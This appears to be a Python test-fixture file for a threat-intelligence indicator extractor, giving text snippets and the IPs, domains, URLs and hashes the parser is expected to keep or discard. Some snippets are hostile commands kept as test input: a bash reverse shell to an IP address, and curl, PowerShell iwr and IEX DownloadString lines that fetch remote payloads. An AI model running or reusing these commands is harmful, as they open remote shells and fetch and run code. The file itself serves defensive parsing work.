"""What the words around a value say of it, with what an analyst takes from it."""

from __future__ import annotations

from typing import Final

from tests.ingest.indicators.snippets import ARTICLE as ONE_LINE
from tests.ingest.indicators.snippets import DISARMING_ARTICLE, MD5, PROSE, SHA1, SHA256, S

ARTICLE: Final = ONE_LINE + "\n"
PANEL: Final = "domain panel.orlop-yard.net"
GALE: Final = "domain gale-post.com"
ONION: Final = "ab2c" * 14 + ".onion"
# An article that disarms an address.
ADDRESSING_ARTICLE: Final = ARTICLE + "The panel stood at 185.220.101[.]47 in March.\n"
ADDRESS: Final = "ip 185.220.101.47"


RULE_SNIPPETS: Final = (
    # --- versions that read as addresses
    S("series", "Fixed in 8.2.0.4, 9.1.0.3 and 10.0.0.1"),
    S("series", "Patch to 8.2.0.4, 9.1.0.3 or 10.0.0.1"),
    S("series", "upgrade to 21.4.1.3 or 21.5.0.2"),
    S("series", "Affected: 7.1.0.2 - 7.1.3.8"),
    S("series", "versions 9.1.4, 9.2.0.1 and 10.0.3.18"),
    S("series", "versions 12.3.1.172 / 12.3.2.180"),
    S("series", "version 5.1.0.3, 185.220.101.47", ADDRESS),
    S("series", "firmware 3.0.0.4 and C2 185.220.101.47", ADDRESS),
    S(
        "series",
        "C2 servers 45.9.20.71, 45.9.20.75 and 5.2.3.4",
        "ip 45.9.20.71",
        "ip 45.9.20.75",
        "ip 5.2.3.4",
    ),
    S("series", "it moved from 45.9.20.71 to 45.9.20.75", "ip 45.9.20.71", "ip 45.9.20.75"),
    S("version", "the vendor fixed it in 8.2.0.4"),
    S("version", "die Versionen 12.3.1.172 und älter"),
    S("version", "уязвимы версии 12.3.1.17"),
    S("version", "影響を受けるバージョン 12.3.1.17"),
    S("version", "hasta la versión 12.3.1.17"),
    S("version", '    version = "2.1.0.4"'),
    S("version", '{"version": "2.1.0.4"}'),
    S("version", "X-Mailer: Mistmail 6.1.77.113 [en]"),
    S("version", "it runs Linux 5.15.0.87"),
    S("version", "Linux\t45.9.20.71", "ip 45.9.20.71"),
    S("version", "Gale\n5.9.20.31", "ip 5.9.20.31"),
    S("version", "Affected hosts: 45.9.20.71, 45.9.20.75", "ip 45.9.20.71", "ip 45.9.20.75"),
    S("plain number", ADDRESSING_ARTICLE + "The loader is back with 3.7.2.0 since May.\n", ADDRESS),
    S("plain number", ADDRESSING_ARTICLE + "Its C2 server 5.9.20.31 is down since May.\n", ADDRESS, "ip 5.9.20.31"),
    S("plain number", ADDRESSING_ARTICLE + "It was seen on 5.9.20.31:8080 in May.\n", ADDRESS, "ip 5.9.20.31"),
    S("plain number", ADDRESSING_ARTICLE + "IOCs:\n\nGale loader 5.9.20.31\n", ADDRESS, "ip 5.9.20.31"),
    S("plain number", ADDRESSING_ARTICLE + "5.9.20.31\n", ADDRESS, "ip 5.9.20.31"),
    S("plain number", ARTICLE + "The loader is back on 5.9.20.31 since May.\n", "ip 5.9.20.31"),
    # --- keys and identifiers as long as a hash
    S("key", f"AES key: {MD5}"),
    S("key", f"the RC4 key is '{MD5}'"),
    S("key", f'XOR key "{MD5}"'),
    S("key", f"AES-256 key (hex): {SHA256}"),
    S("key", f"decrypted with the IV {MD5}"),
    S("key", f'rc4_key = "{MD5}"'),
    S("key", f"| nonce | {MD5} |"),
    S("key", f"bot ID {MD5}"),
    S("key", f"campaign_id={MD5}"),
    S("key", f"session id: {MD5}"),
    S("key", f"GET /a?token={SHA1} HTTP/1.1"),
    S("key", f"it creates the mutex {MD5}"),
    S("key", f'ETag: "{MD5}"'),
    S("key", f"GUID {{{MD5}}}"),
    S("no key", f"key sample: {MD5}", f"hash_md5 {MD5}"),
    S("no key", f"registry key, MD5: {MD5}", f"hash_md5 {MD5}"),
    S("no key", f"the keylogger {MD5}", f"hash_md5 {MD5}"),
    S("no key", f"it drops key.exe ({MD5})", f"hash_md5 {MD5}"),
    S("no key", f"a token stealer: {MD5}", f"hash_md5 {MD5}"),
    S("no key", f"Mutexes:\nGaleMutex\n\n{MD5}", f"hash_md5 {MD5}"),
    S("no key", f"the archive {MD5}", f"hash_md5 {MD5}"),
    # --- what a heading announces
    S("heading", f"{DISARMING_ARTICLE}## Domain names\n\n- gale-post.com\n", PANEL, GALE),
    S("heading", f"{DISARMING_ARTICLE}Host names:\n\ngale-post.com\n", PANEL, GALE),
    S("heading", f"{ARTICLE}Phishing links\n\nhttps://gale-post.com/in\n", "url https://gale-post.com/in", GALE),
    S("heading", f"{ARTICLE}Download links:\n\nhttps://gale-post.com/in\n", "url https://gale-post.com/in", GALE),
    S("heading", f"{ARTICLE}C2 links\n\nhttps://gale-post.com/in\n", "url https://gale-post.com/in", GALE),
    S("heading", f"{ARTICLE}Network detections\n\ngale-post.com\n", GALE),
    S("heading", f"{ARTICLE}Detections and Indicators\n\ngale-post.com\n", GALE),
    S("heading", f"{ARTICLE}Useful links\n\nhttps://gale-post.com/in\n"),
    S("heading", f"{ARTICLE}Detection names\n\ngale-post.com\n"),
    S("heading", f"{ARTICLE}External links\n\ngale-post.com\n"),
    S(
        "heading",
        f"{ARTICLE}references:\n  - https://gale-post.com/in\ndetection:\n  selection:\n    query: 'mist-post.com'\n",
        "domain mist-post.com",
    ),
    # --- names that end in a word
    S("word", ARTICLE + "It beaconed to marshupdates.in for a week.\n", "domain marshupdates.in"),
    S("word", ARTICLE + "The C2 domain marshsettlers.us is down.\n", "domain marshsettlers.us"),
    S("word", ARTICLE + "It connects to marsh.link at night.\n", "domain marsh.link"),
    S("word", ARTICLE + "The malware asks marshgardens.click for orders.\n", "domain marshgardens.click"),
    S("word", ARTICLE + "marsh.is\n", "domain marsh.is"),
    S("word", ARTICLE + "* marshlogin.me\n", "domain marshlogin.me"),
    S("word", ARTICLE + "The malware asks `marsh.to` for orders.\n", "domain marsh.to"),
    S("no word", ARTICLE + "The server was reached in april.it was patched in May.\n"),
    S("no word", ARTICLE + "The beacon connects.it then sleeps.\n"),
    S("no word", ARTICLE + "The malware loads it in the report.in May it was gone.\n"),
    S("no word", "The query compares process.name and event.type"),
    S("no word", ARTICLE + "Network IOCs\n\n* helper.app\n"),
    S("no word", "the malware opens Setup.app"),
    # --- mailboxes of those who wrote the text
    S("reader", DISARMING_ARTICLE + "Please write to lab@mistwell.io for samples.\n", PANEL),
    S("reader", DISARMING_ARTICLE + "Hinweise bitte an lagebild@mistwell.io melden.\n", PANEL),
    S("reader", DISARMING_ARTICLE + "## IOCs\n\nQuestions → `iocs@mistwell.io`\n", PANEL),
    S("reader", ARTICLE + "To share a sample contact us at pti@mistwell.io\n"),
    S("reader", ARTICLE + "Reach the author at m.well@gmail.com\n"),
    S("reader", PROSE + "Questions? Write to pti@mistwell.io."),
    S(
        "reader",
        ARTICLE
        + "Our blog is at https://mistwell.io/news/2024/ and it is old.\n\n"
        + PROSE
        + "By m.well@mistwell.io\n",
    ),
    S(
        "no reader",
        ARTICLE + "The note says: write to us at gale@mistwell.io to decrypt your files.\n",
        "email gale@mistwell.io",
    ),
    S("no reader", ARTICLE + "The attackers ask to contact gale@proton.me\n", "email gale@proton.me"),
    S("no reader", ARTICLE + "The actor used gale@mistwell.io as a drop.\n", "email gale@mistwell.io"),
    S("no reader", "Die Angreifer nennen als Kontakt gale@mistwell.io", "email gale@mistwell.io", "domain mistwell.io"),
    S("no reader", "Contact: gale@proton.me", "email gale@proton.me"),
    S("no reader", ARTICLE + "Senders:\n\ngale@mistwell.io\n", "email gale@mistwell.io"),
    # --- what the author of a note keeps for its readers
    S("invitation", "Follow us on https://twitter.com/mistwell and https://bsky.app/profile/mistwell"),
    S("invitation", f"See our earlier post at https://mistwell.io/loader, sample {MD5}", f"hash_md5 {MD5}"),
    S("invitation", "Mehr dazu unter www.mistwell.de."),
    S("invitation", "More information is available at https://mistwell.io/loader"),
    S(
        "no invitation",
        "Our analysis shows that it contacts https://gale-post.com/x",
        "url https://gale-post.com/x",
        GALE,
    ),
    S("no invitation", "It sends more information to gale-post.com", GALE),
    # --- where a host is sure to stand
    S("socket", "bash -i >& /dev/tcp/185.220.101.47/4444 0>&1", ADDRESS),
    S("share", "<img src=file://185.220.101.47/in>", ADDRESS),
    S("share", "location:\\\\185.220.101.47@80\\in", ADDRESS),
    S("share", "see /usr/lib/185.220.101.47/in"),
    S("share", "C:\\\\Users\\\\185.220.101.47\\in"),
    S("field", ARTICLE + "QueryName: gale-post.com\n", GALE),
    S("field", ARTICLE + "DestinationHostname: gale-post.com Image: a\n", GALE),
    S("field", ARTICLE + 'seen "query": "gale-post.com" in May\n', GALE),
    S("field", ARTICLE + "seen with SNI gale-post.com in May\n", GALE),
    S("field", ARTICLE + "svc.exe -o gale-post.com:443 -u me\n", GALE),
    S("field", ARTICLE + "svc.exe -o gale-post.com -u me\n"),
    S("field", ARTICLE + "QueryName: www.microsoft.com\n"),
    # --- other languages
    S("language", ARTICLE + "Die Probe nimmt Verbindung zu gale-post.com auf.\n", GALE),
    S("language", ARTICLE + "Le fichier se connecte à gale-post.com chaque jour.\n", GALE),
    S("language", ARTICLE + "El programa se conecta a gale-post.com cada hora.\n", GALE),
    S("language", ARTICLE + "Программа связывается с gale-post.com каждый час.\n", GALE),
    S("language", ARTICLE + "样本会连接到 gale-post.com 并等待\n", GALE),
    S("language", ARTICLE + "Das Wetter steht auf gale-post.com jeden Tag.\n"),
    # --- dead drops
    S(
        "dead drop",
        DISARMING_ARTICLE + "It reads a dead drop at https://docs.google.com/document/d/1kQ/edit first.\n",
        PANEL,
        "url https://docs.google.com/document/d/1kQ/edit",
    ),
    S(
        "dead drop",
        ARTICLE + "As a dead-drop resolver it uses https://steamcommunity.com/profiles/1 since May.\n",
        "url https://steamcommunity.com/profiles/1",
    ),
    S("dead drop", DISARMING_ARTICLE + "Our table is at https://docs.google.com/document/d/1kQ/edit now.\n", PANEL),
    # --- hidden services
    S("hidden service", DISARMING_ARTICLE + f"The leak site {ONION} is up since May.\n", PANEL, f"domain {ONION}"),
    S(
        "hidden service",
        DISARMING_ARTICLE + f"Leak site: http://{ONION}/blog\n",
        PANEL,
        f"url http://{ONION}/blog",
        f"domain {ONION}",
    ),
    S("hidden service", DISARMING_ARTICLE + "The mirror short.onion is named in passing.\n", PANEL),
    # --- a URL that holds a mailbox
    S(
        "mailbox in a URL",
        "hxxps://gale-post[.]com/a.php?email=bob@mist-corp.com",
        "url https://gale-post.com/a.php?email=bob@mist-corp.com",
        GALE,
    ),
    # --- what a command or request fetches, though the text disarms other things
    S(
        "fetched",
        DISARMING_ARTICLE + "curl -o /tmp/x https://gale-post.com/l\n",
        PANEL,
        "url https://gale-post.com/l",
        GALE,
    ),
    S(
        "fetched",
        DISARMING_ARTICLE + "powershell iwr -Uri https://gale-post.com/logo.png -OutFile x.exe\n",
        PANEL,
        "url https://gale-post.com/logo.png",
        GALE,
    ),
    S(
        "fetched",
        DISARMING_ARTICLE + "IEX (New-Object Net.WebClient).DownloadString('https://gale-post.com/a')\n",
        PANEL,
        "url https://gale-post.com/a",
        GALE,
    ),
    S("home page", "They used gale (gale.org) to copy files to gale-post.com from the server.", "domain gale-post.com"),
    S("empty file", "an empty file has the MD5 d41d8cd98f00b204e9800998ecf8427e"),
    S("harmless", f"{MD5}  Teams.exe (legitimate)\n{SHA1}  version.dll (malicious)", f"hash_sha1 {SHA1}"),
    S("harmless", f"{MD5}  Teams.exe (not legitimate)", f"hash_md5 {MD5}"),
    S("people", "The Winnti Group sent letters to many firms."),
    S(
        "port",
        ARTICLE + "Its panel was seen at https://gale-post.com:8443/l that day.\n",
        "domain gale-post.com",
        "url https://gale-post.com:8443/l",
    ),
    S("fetched", DISARMING_ARTICLE + "The weather was taken from https://gale-post.com/l that day.\n", PANEL),
)
